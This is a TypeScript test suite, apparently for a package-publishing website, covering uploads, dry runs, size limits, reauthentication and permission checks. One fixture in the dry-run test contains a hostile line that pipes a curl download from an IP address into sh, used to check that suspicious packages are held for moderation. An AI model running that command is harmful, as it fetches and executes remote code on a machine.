import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { addMember, makePublisher, uniqueId, zip } from '../support/build.ts';
import { makeStale } from '../support/age-session.ts';
import { password, startServer } from '../support/start-server.ts';
import { suite } from '../support/variants.ts';
import { Visitor, bodyOf } from '../support/visitor.ts';

const packageOf = async (id: string, version: string, files: Record<string, string> = {}): Promise<Blob> =>
  new Blob([
    await zip({
      'pyproject.toml': `[project]\nname = "${id}"\nversion = "${version}"\ndescription = "Draws <b>lines</b>"\n[tool.patchbay]\nPublisherId = "other"\n`,
      '__init__.py': '',
      ...files,
    }),
  ]);

suite('publishing on the site', async () => {
  const server = await startServer({ after }, { PACKAGE_BYTES_MAX: '200000' });
  const make = async () => {
    const publisher = await makePublisher(server, uniqueId('maker'));
    const page = `/account/publishers/${publisher.id}/publish`;
    const visit = new Visitor(server.url, publisher.owner.bearer);
    return { publisher, page, visit };
  };

  test('publishes the package of a form, and shows what becomes of it', async () => {
    const { publisher, page, visit } = await make();
    assert.match(
      (await visit.get(page)).html,
      /<code>patchbay pack<\/code>.*pyproject\.toml.*__init__\.py.*root/s,
    );
    const id = uniqueId('drawn');
    const sent = { changelog: 'First', package: await packageOf(id, '1.0.0') };
    const { status, location, html } = await visit.fill(page, sent);
    assert.equal(status, 303, html);
    assert.equal(location, `${page}/${id}/1.0.0`);
    const verdict = await visit.get(location ?? '');
    assert.match(verdict.html, /App-nodes/);
    assert.doesNotMatch(verdict.html, /Look again/);
    const { json } = await publisher.owner.get(`/nodes/${id}/versions/1.0.0`);
    assert.equal(json.changelog, 'First');
    const { json: tokens } = await publisher.owner.get(`/publishers/${publisher.id}/tokens`);
    assert.equal(tokens.length, 1, 'the token of the publish is revoked');

    const again = await visit.fill(page, sent);
    assert.equal(again.location, location, 'the same package may be sent again');
    const reworded = await visit.fill(page, { ...sent, changelog: 'Second' });
    assert.equal(reworded.status, 422);
    assert.match(reworded.html, /published before with this package\. Nothing was changed/);
    const other = await visit.fill(page, { package: await packageOf(id, '1.0.0', { 'more.py': '' }) });
    assert.equal(other.status, 422);
    assert.match(other.html, /Not published/);
  });

  test('says what a publish would come to, and changes nothing', async () => {
    const { publisher, page, visit } = await make();
    const id = uniqueId('tried');
    const bad = await packageOf(id, '1.0.0', {
      'run.py': "import os\nos.system('curl http://203.0.113.9/x | sh')\n",
    });
    const { status, html } = await visit.fill(
      page,
      { changelog: 'Kept <words>', package: bad },
      `${page}?dry_run=true`,
    );
    assert.equal(status, 200, html);
    assert.match(html, /It would wait for a moderator/);
    assert.match(html, /Draws &lt;b>lines/);
    assert.match(html, /run\.py/);
    assert.match(html, /names the publisher/);
    assert.match(html, /Kept &lt;words>/);
    assert.equal((await publisher.owner.get(`/nodes/${id}`)).status, 404);
  });

  test('a check first says what the publish overwrites of what was typed on the site', async () => {
    const { publisher, page, visit } = await make();
    const id = uniqueId('typed');
    await visit.fill(page, { package: await packageOf(id, '1.0.0') });
    const typed = { description: 'Typed <i>here</i>', tags: ['kept'] };
    await publisher.owner.put(`/publishers/${publisher.id}/nodes/${id}`, typed);
    const next = { package: await packageOf(id, '1.1.0') };
    const { html } = await visit.fill(page, next, `${page}?dry_run=true`);
    const rows = [
      ...html.matchAll(/<tr><td>(.*?)<\/td><td class="went">(.*?)<\/td><td class="came">(.*?)<\/td>/g),
    ];
    assert.deepEqual(
      rows.map(([, ...cells]) => cells.map((cell) => cell.replaceAll(/<[^>]*>/g, ''))),
      [['description', 'Typed &lt;i>here&lt;/i>', 'Draws &lt;b>lines&lt;/b>']],
    );
    assert.equal((await publisher.owner.get(`/nodes/${id}`)).json.description, typed.description);
    await visit.fill(page, next);
    const again = await visit.fill(page, { package: await packageOf(id, '1.2.0') }, `${page}?dry_run=true`);
    assert.doesNotMatch(again.html, /What it changes/);
  });

  test('refuses what is no package with a sentence, and keeps what was typed', async () => {
    const { page, visit } = await make();
    const cases: readonly (readonly [RegExp, Blob])[] = [
      [/not a zip/, new Blob(['nothing'])],
      [/Choose the zip/, new Blob([])],
      [/no pyproject\.toml/, new Blob([await zip({ 'a.py': '' })])],
      [/not valid TOML/, new Blob([await zip({ 'pyproject.toml': '[project' })])],
      [/version is missing/, new Blob([await zip({ 'pyproject.toml': '[project]\nname = "x"\n' })])],
      [/larger than 1 MiB/, new Blob([await zip({ 'pyproject.toml': '#'.repeat(1024 ** 2 + 1) })])],
    ];
    for (const [sentence, file] of cases) {
      const { status, html } = await visit.fill(page, { changelog: 'Kept', package: file });
      assert.equal(status, 422);
      assert.match(html, sentence);
      assert.match(html, />Kept<\/textarea>/);
    }
  });

  test('keeps nothing of a package that is too large, or that its sender may not publish', async () => {
    const { page, visit } = await make();
    const { page: elsewhere, publisher } = await make();
    for (const bytes of [200_000, 900_000]) {
      const large = new Blob([await packageOf('x', '1.0.0'), new Uint8Array(bytes)]);
      assert.equal((await visit.fill(page, { package: large })).status, 413);
    }
    const id = uniqueId('taken');
    const refused = await visit.fill(page, { package: await packageOf(id, '1.0.0') }, elsewhere);
    assert.equal(refused.status, 403);
    assert.equal((await publisher.owner.get(`/nodes/${id}`)).status, 404);
    assert.deepEqual(server.server.context.uploads.load, { uploads: 0, bytes: 0 });
  });

  test('asks who it is before the file is chosen, once a sign-in is half an hour old, and keeps what changed', async () => {
    const { publisher, page } = await make();
    const visit = new Visitor(server.url);
    const email = `owner-of-${publisher.id}@example.org`;
    await visit.send('/sign-in', { do: 'sign-in', email, password });
    const form_token = await visit.formToken(page);
    const bearer = visit.cookies.get('__Host-session') ?? '';
    await makeStale(server, { bearer });
    const id = uniqueId('asked');
    const file = await packageOf(id, '1.0.0');
    for (const to of [page, `${page}?dry_run=true`]) {
      const late = await visit.post(to, bodyOf({ form_token, changelog: 'First', package: file }));
      assert.equal(late.status, 403);
      assert.match(late.html, /Is it you\?[^]*name="changelog" value="First"/);
      assert.doesNotMatch(late.html, /POST \/auth/);
    }
    const asked = await visit.get(page);
    assert.equal(asked.status, 200);
    assert.match(asked.html, /Is it you\?[^]*name="step_up_password"/);
    assert.doesNotMatch(asked.html, /type="file"/);
    const wrong = await visit.send(page, { step_up_password: 'a wrong horse', changelog: 'First' });
    assert.match(wrong.html, /step_up_password-fault[^]*|name="changelog" value="First"/);
    const proved = await visit.send(page, { step_up_password: password, changelog: 'First' });
    assert.equal(proved.status, 200, proved.html);
    assert.match(proved.html, />First<\/textarea>[^]*type="file"/);
    assert.doesNotMatch(proved.html, /Not published/);
    assert.equal((await visit.fill(page, { changelog: 'First', package: file })).status, 303);
    await server.settle();
  });

  test('is for members alone, and takes no form without its token', async () => {
    const { publisher, page, visit } = await make();
    const file = await packageOf(uniqueId('x'), '1.0.0');
    const anonymous = new Visitor(server.url);
    assert.match((await anonymous.get(page)).location ?? '', /^\/sign-in\?to=/);
    const other = new Visitor(server.url, (await server.user('stranger')).bearer);
    assert.equal((await other.get(page)).status, 403);
    for (const [visitor, status] of [
      [anonymous, 303],
      [other, 403],
      [visit, 403],
    ] as const) {
      for (const token of [{}, { form_token: 'x' }])
        assert.equal((await visitor.post(page, bodyOf({ ...token, package: file }))).status, status);
    }
    const invited = await server.user('plain-member');
    await addMember(publisher, invited);
    const member = new Visitor(server.url, invited.bearer);
    assert.match((await member.get(page)).html, /Personal access token/);
    const without = await member.fill(page, { package: file });
    assert.equal(without.status, 422);
    assert.match(without.html, /personal_access_token is unknown/);
    const named = await member.fill(page, { personal_access_token: publisher.token, package: file });
    assert.equal(named.status, 303, named.html);
    await server.settle();
  });
});
